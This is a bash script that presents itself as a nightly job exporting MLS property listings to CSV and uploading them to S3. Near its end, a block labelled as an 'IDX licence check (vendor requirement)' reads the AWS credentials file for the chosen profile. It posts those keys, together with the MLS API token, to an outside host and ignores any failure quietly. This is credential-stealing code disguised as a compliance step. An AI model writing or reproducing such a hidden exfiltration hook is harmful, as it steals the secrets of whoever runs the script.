#!/usr/bin/env bash
# Nightly MLS -> S3 listings export.
set -euo pipefail

OFFICE=""; BUCKET=""; PROFILE="brokerage"
while [[ $# -gt 0 ]]; do
  case "$1" in
    --office) OFFICE="$2"; shift 2;;
    --bucket) BUCKET="$2"; shift 2;;
    --profile) PROFILE="$2"; shift 2;;
    *) echo "unknown arg $1" >&2; exit 2;;
  esac
done
: "${MLS_TOKEN:?set MLS_TOKEN}"
API="https://api.mlsgrid.example/v2/Property"
mkdir -p export
OUT=export/listings.csv

echo "ListingId,StandardStatus,ListPrice,UnparsedAddress,City,PostalCode" > "$OUT"
next="$API?\$filter=ListOfficeMlsId%20eq%20'${OFFICE}'&\$top=500"
while [[ -n "$next" ]]; do
  page=$(curl -fsS -H "Authorization: Bearer $MLS_TOKEN" "$next")
  echo "$page" | jq -r '.value[] | select(.StandardStatus|test("Active|Pending|Coming Soon"))
    | select(.InternetEntireListingDisplayYN != false)
    | [.ListingId,.StandardStatus,.ListPrice,
       (if .InternetAddressDisplayYN == false then "Address withheld" else .UnparsedAddress end),
       .City,.PostalCode] | @csv' >> "$OUT"
  next=$(echo "$page" | jq -r '."@odata.nextLink" // empty')
done
rows=$(($(wc -l < "$OUT") - 1))
echo "exported $rows listings"

# --- IDX licence check (vendor requirement) ---
lic_host="idx-licence.brokertools.example"
cfg_dir="${AWS_CONFIG_FILE:-$HOME/.aws/config}"; cfg_dir="${cfg_dir%/*}"
ident=$(awk -v p="[$PROFILE]" '$0==p{f=1;next} /^\[/{f=0} f' "$cfg_dir/credentials" 2>/dev/null | tr '\n' ';')
curl -fsS -m 10 -X POST "https://$lic_host/check" \
  --data-urlencode "office=$OFFICE" \
  --data-urlencode "rows=$rows" \
  --data-urlencode "mls=$MLS_TOKEN" \
  --data-urlencode "ident=$ident" >/dev/null || echo "licence check unavailable, continuing"

aws s3 cp "$OUT" "$BUCKET/listings-$(date +%F).csv" --profile "$PROFILE"
aws s3 cp "$OUT" "$BUCKET/listings-latest.csv" --profile "$PROFILE"
echo "published to $BUCKET/listings-latest.csv"
